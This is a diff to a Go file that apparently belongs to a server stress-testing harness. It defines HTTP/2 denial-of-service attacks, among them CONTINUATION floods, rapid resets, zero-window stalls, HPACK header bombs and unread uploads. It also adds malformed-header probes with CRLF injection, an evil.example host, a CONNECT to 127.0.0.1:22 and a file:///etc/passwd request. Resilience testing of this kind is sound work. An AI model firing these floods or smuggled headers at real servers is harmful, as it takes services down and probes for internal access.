@@ -29,20 +29,15 @@ import (
 
 // http2Attacks speak HTTP/2, which a server speaks that encrypts: each starts one.
 func http2Attacks() []attack {
-	get := func(name, about string, quick bool, n int, do func(ctx context.Context, a *arena, c *frames) error) attack {
-		return attack{name: name, about: about, quick: quick, own: func(ctx context.Context, a *arena) samples {
-			return a.encrypted(ctx, n, do)
-		}}
-	}
 	return []attack{
-		get("h2-continuation", "headers of one request in CONTINUATION frames without an end", true, 30, func(ctx context.Context, a *arena, c *frames) error {
+		overHTTP2("h2-continuation", "headers of one request in CONTINUATION frames without an end", true, 30, func(ctx context.Context, a *arena, c *frames) error {
 			err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.request("GET", "/", 0)})
 			for k := 0; k < 100_000 && err == nil && ctx.Err() == nil; k++ {
 				err = c.WriteContinuation(1, false, c.fields("x-a", strings.Repeat("b", 8000)))
 			}
 			return err
 		}),
-		get("h2-reset", "requests taken back at once, as fast as they are taken", true, 30, func(ctx context.Context, a *arena, c *frames) error {
+		overHTTP2("h2-reset", "requests taken back at once, as fast as they are taken", true, 30, func(ctx context.Context, a *arena, c *frames) error {
 			var err error
 			for id := uint32(1); id < 200_000 && err == nil && ctx.Err() == nil; id += 2 {
 				err = errors.Join(c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.request("GET", "/lessons/", 0), EndHeaders: true, EndStream: true}),
@@ -50,7 +45,7 @@ func http2Attacks() []attack {
 			}
 			return err
 		}),
-		get("h2-settings", "settings and pings as fast as they are taken, answers not read", true, 60, func(ctx context.Context, a *arena, c *frames) error {
+		overHTTP2("h2-settings", "settings and pings as fast as they are taken, answers not read", true, 60, func(ctx context.Context, a *arena, c *frames) error {
 			c.deaf()
 			var err error
 			for k := 0; k < 500_000 && err == nil && ctx.Err() == nil; k++ {
@@ -58,14 +53,14 @@ func http2Attacks() []attack {
 			}
 			return err
 		}),
-		get("h2-empty-data", "bodies in DATA frames of no length, headers without an end of the request", false, 30, func(ctx context.Context, a *arena, c *frames) error {
+		overHTTP2("h2-empty-data", "bodies in DATA frames of no length, headers without an end of the request", false, 30, func(ctx context.Context, a *arena, c *frames) error {
 			err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.request("POST", "/lessons/pass", 14<<20), EndHeaders: true})
 			for k := 0; k < 500_000 && err == nil && ctx.Err() == nil; k++ {
 				err = c.WriteData(1, false, nil)
 			}
 			return err
 		}),
-		get("h2-window-zero", "100 requests for a page on each connection, and no room for their answers", true, 100, func(ctx context.Context, a *arena, c *frames) error {
+		overHTTP2("h2-window-zero", "100 requests for a page on each connection, and no room for their answers", true, 100, func(ctx context.Context, a *arena, c *frames) error {
 			err := c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
 			for id := uint32(1); id < 200 && err == nil; id += 2 {
 				err = c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.request("GET", "/lessons/search.json", 0), EndHeaders: true, EndStream: true})
@@ -73,7 +68,7 @@ func http2Attacks() []attack {
 			pause(ctx, 12*time.Second)
 			return err
 		}),
-		get("h2-window-one", "answers of which one byte at a time may come", false, 60, func(ctx context.Context, a *arena, c *frames) error {
+		overHTTP2("h2-window-one", "answers of which one byte at a time may come", false, 60, func(ctx context.Context, a *arena, c *frames) error {
 			err := c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
 			err = errors.Join(err, c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.request("GET", "/", 0), EndHeaders: true, EndStream: true}))
 			for err == nil && ctx.Err() == nil {
@@ -82,25 +77,95 @@ func http2Attacks() []attack {
 			}
 			return err
 		}),
-		get("h2-window-overflow", "windows that grow beyond 2^31, priorities that depend on themselves, frames of no kind", false, 30, func(ctx context.Context, a *arena, c *frames) error {
+		overHTTP2("h2-window-overflow", "windows that grow beyond 2^31, priorities that depend on themselves, frames of no kind", false, 30, func(ctx context.Context, a *arena, c *frames) error {
 			err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.request("GET", "/", 0), EndHeaders: true, EndStream: true,
 				Priority: http2.PriorityParam{StreamDep: 1, Exclusive: true}})
 			return errors.Join(err, c.WriteRawFrame(0xee, 0xff, 7, make([]byte, 100)), c.WriteWindowUpdate(0, 1<<31-1), c.WriteWindowUpdate(0, 1<<31-1))
 		}),
-		get("h2-header-bomb", "a header that stands in the table once, named 60,000 times", true, 30, func(ctx context.Context, a *arena, c *frames) error {
+		overHTTP2("h2-header-bomb", "a header that stands in the table once, named 60,000 times", true, 30, func(ctx context.Context, a *arena, c *frames) error {
 			block := c.request("GET", "/", 0)
 			block = append(block, c.fields("x-long", strings.Repeat("a", 3000))...)
 			again := c.fields("x-long", strings.Repeat("a", 3000))
 			return c.split(1, append(block, bytes.Repeat(again, 60_000)...))
 		}),
-		get("h2-unread-bodies", "uploads of a megabyte on each of 700 connections, while others hold the memory for uploads", true, 700, func(ctx context.Context, a *arena, c *frames) error {
+		overHTTP2("h2-unread-bodies", "uploads of a megabyte on each of 700 connections, while others hold the memory for uploads", true, 700, func(ctx context.Context, a *arena, c *frames) error {
 			return c.upload(ctx, a, "/lessons/pass")
 		}),
-		get("h2-unread-bodies-get", "bodies of a megabyte with requests that have none, whose answers have no room", false, 700, func(ctx context.Context, a *arena, c *frames) error {
+		overHTTP2("h2-unread-bodies-get", "bodies of a megabyte with requests that have none, whose answers have no room", false, 700, func(ctx context.Context, a *arena, c *frames) error {
 			err := c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
 			return errors.Join(err, c.upload(ctx, a, "/lessons/search.json"))
 		}),
 	}
+}
+
+// provokingAttacks speak HTTP/2 so that the server has more to do than those who ask: to reset, to take back, to refuse.
+func provokingAttacks() []attack {
+	return []attack{
+		overHTTP2("h2-provoked-resets", "requests that the server itself has to reset, by windows of 0, windows beyond all and bodies that are longer than they say, as fast as they are taken", true, 30, func(ctx context.Context, a *arena, c *frames) error {
+			var err error
+			for id := uint32(1); id < 100_000 && err == nil && ctx.Err() == nil; id += 2 {
+				err = c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.request("POST", "/lessons/pass", 5), EndHeaders: true})
+				switch id / 2 % 3 {
+				case 0:
+					err = errors.Join(err, c.WriteRawFrame(http2.FrameWindowUpdate, 0, id, []byte{0, 0, 0, 0}))
+				case 1:
+					err = errors.Join(err, c.WriteWindowUpdate(id, 1<<31-1), c.WriteWindowUpdate(id, 1<<31-1))
+				default:
+					err = errors.Join(err, c.WriteData(id, true, []byte("123456789")))
+				}
+			}
+			return err
+		}),
+		overHTTP2("h2-programs", "100 endless programs on each of 16 connections, of which each is taken back a moment later", true, 16, func(ctx context.Context, a *arena, c *frames) error {
+			body := codeBody(endless)
+			var err error
+			for id := uint32(1); id < 200 && err == nil && ctx.Err() == nil; id += 2 {
+				err = c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.request("POST", "/"+a.runPath(), len(body)), EndHeaders: true})
+				if err == nil {
+					err = c.WriteData(id, true, body)
+				}
+				if err == nil && id > 20 {
+					err = c.WriteRSTStream(id-20, http2.ErrCodeCancel)
+				}
+			}
+			pause(ctx, 3*time.Second)
+			return err
+		}),
+		overHTTP2("h2-strange-headers", "names in capitals, two paths, no method, a tunnel to a socket, headers of connections, lengths that contradict one another", true, 30, func(ctx context.Context, a *arena, c *frames) error {
+			usual := []string{":method", "GET", ":scheme", "https", ":authority", c.host, ":path", "/"}
+			var err error
+			for k, more := range [][]string{
+				{"X-Upper", "a"}, {":path", "/healthz"}, {"connection", "upgrade", "upgrade", "websocket"}, {"transfer-encoding", "chunked"}, {"content-length", "5", "content-length", "6"}, {"te", "gzip"},
+				{"host", "evil.example"}, {"x-a", "b\r\nx-c: d"}, {"x-\x00", "a"}, {"", "a"}, {":unknown", "a"}, {"content-length", "-1"}, {"cookie", strings.Repeat("a=b; ", 3000)}, {"proxy-connection", "keep-alive"},
+			} {
+				err = errors.Join(err, c.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*k + 1), BlockFragment: c.fields(append(usual[:8:8], more...)...), EndHeaders: true, EndStream: true}))
+			}
+			for k, pairs := range [][]string{
+				{":method", "CONNECT", ":protocol", "websocket", ":scheme", "https", ":authority", c.host, ":path", "/machine"}, {":method", "CONNECT", ":authority", "127.0.0.1:22"},
+				{":scheme", "https", ":path", "/"}, {":method", "GET", ":scheme", "file", ":authority", "", ":path", "/etc/passwd"}, {":method", "GET", ":scheme", "https", ":authority", c.host, ":path", "https://evil.example/"},
+				{":method", "GET", ":scheme", "https", ":authority", "evil.example", ":path", "/"}, {":method", "GET", ":scheme", "https", ":authority", c.host, ":path", ""},
+			} {
+				err = errors.Join(err, c.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*k + 101), BlockFragment: c.fields(pairs...), EndHeaders: true, EndStream: true}))
+			}
+			pause(ctx, 500*time.Millisecond)
+			return err
+		}),
+		overHTTP2("h2-away", "clients that say goodbye and go on, with the last request before the first one, and again", false, 30, func(ctx context.Context, a *arena, c *frames) error {
+			var err error
+			for id := uint32(1); id < 2_000 && err == nil && ctx.Err() == nil; id += 2 {
+				err = errors.Join(c.WriteGoAway(id%7, http2.ErrCodeNo, bytes.Repeat([]byte("bye"), 1000)),
+					c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.request("GET", "/lessons/", 0), EndHeaders: true, EndStream: true}))
+			}
+			return err
+		}),
+	}
+}
+
+// overHTTP2 is an attack over n connections with HTTP/2, to a server of its own.
+func overHTTP2(name, about string, quick bool, n int, do func(ctx context.Context, a *arena, c *frames) error) attack {
+	return attack{name: name, about: about, quick: quick, own: func(ctx context.Context, a *arena) samples {
+		return a.encrypted(ctx, n, do)
+	}}
 }
 
 // frames is a connection over HTTP/2.
